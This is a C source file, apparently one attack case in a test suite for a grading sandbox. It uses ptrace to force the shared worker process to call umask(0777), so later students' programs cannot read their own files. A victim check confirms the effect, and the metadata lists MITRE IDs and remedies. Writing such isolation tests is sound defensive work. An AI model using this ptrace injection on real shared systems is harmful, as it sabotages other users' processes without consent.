// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's program fails.
 * Means: the worker's umask. Nobody can set it for another process, so the worker is made to do it:
 *        by ptrace(2) it calls umask(0777). Everybody whom it starts from then on inherits that,
 *        and makes files that not even their owner may open.
 *
 *     worker: poll() ... stopped: umask(0777) ... poll()      student: open, write, open: EACCES
 */
#include "attacks/attack.h"
#include "attacks/peer-tampering/puppet.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NOTHING 0777

static enum claim run(const struct brief *b)
{
	const unsigned long mask[4] = { NOTHING };
	struct user_regs_struct was;
	long r;

	attempting(b);
	if (puppet_stop(b->worker, &was))
		return denied("PTRACE_ATTACH");
	r = puppet_call(b->worker, &was, SYS_umask, mask);
	ptrace(PTRACE_DETACH, b->worker, 0, 0);
	return r < 0 ? denied("ptrace") : CLAIM_DONE;
}

/* Keeps a table in a file, in /tmp or where it is, and reads it again. */
static enum claim victim(const struct brief *b)
{
	char path[128], text[8] = "";
	int fd;

	snprintf(path, sizeof(path), "/tmp/%s", b->name);
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0) {
		snprintf(path, sizeof(path), "%s", b->name);
		fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	}
	if (fd < 0 || write(fd, "3 5 8", 5) != 5 || close(fd))
		return failed("write the table");
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) != 5 || strcmp(text, "3 5 8"))
		return failed("read the table");
	close(fd);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student may not read its own files",
	.means = "ptrace(2): the worker is made to call umask(0777), which its children inherit",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.needs = NEED_X86_64,
	.attack_id = "T1055.008, T1222.002, CWE-276",
	.remedy = "a umask that is set for each program; seccomp without ptrace; a non-dumpable "
		  "worker",
	.refs = (const char *const[]){ "umask(2)", "ptrace(2)", NULL },
	.run = run,
	.victim = victim,
};
